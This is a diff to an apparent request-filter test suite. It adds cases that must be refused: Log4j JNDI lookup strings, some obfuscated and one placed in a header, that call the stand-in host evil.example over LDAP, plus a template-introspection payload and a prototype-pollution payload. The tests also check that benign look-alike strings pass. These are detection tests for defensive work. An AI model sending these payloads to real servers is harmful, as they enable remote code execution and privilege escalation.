@@ -212,3 +212,35 @@ t.test('UNION SELECT split by a line comment and a line break; PostgreSQL COPY â
   ])
     allowed(t, p);
 });
+
+t.test(
+  'Log4j JNDI lookups (also nested) and Python template introspection; qs-style prototype pollution',
+  async (t) => {
+    for (const p of [
+      '${jndi:ldap://evil.example/a}',
+      '${${lower:j}ndi:${lower:l}dap://evil/a}',
+      '${${::-j}${::-n}${::-d}${::-i}:ldap://evil/a}',
+      "{{''.__class__.__mro__[1].__subclasses__()}}",
+    ])
+      refused(t, p, 'cmd_injection', 'rce-160');
+    const v = inspectRequest(engine, {
+      method: 'GET',
+      target: '/api/receipts',
+      headers: { ...H, 'X-Api-Version': '${jndi:ldap://evil.example/a}' },
+      body: null,
+    });
+    t.equal(v.decision, 'deny', 'a lookup in a header is refused');
+    t.same(
+      v.matches.map((m) => [m.ruleId, m.target]),
+      [['rce-160', 'header:x-api-version']],
+    );
+    refused(t, 'constructor[prototype][isAdmin]=true', 'nodejs', 'node-100');
+    for (const p of [
+      '${amount} per night',
+      '${port:8080}',
+      '__init__ of my_class',
+      'constructor [prototype build] fee',
+    ])
+      allowed(t, p);
+  },
+);
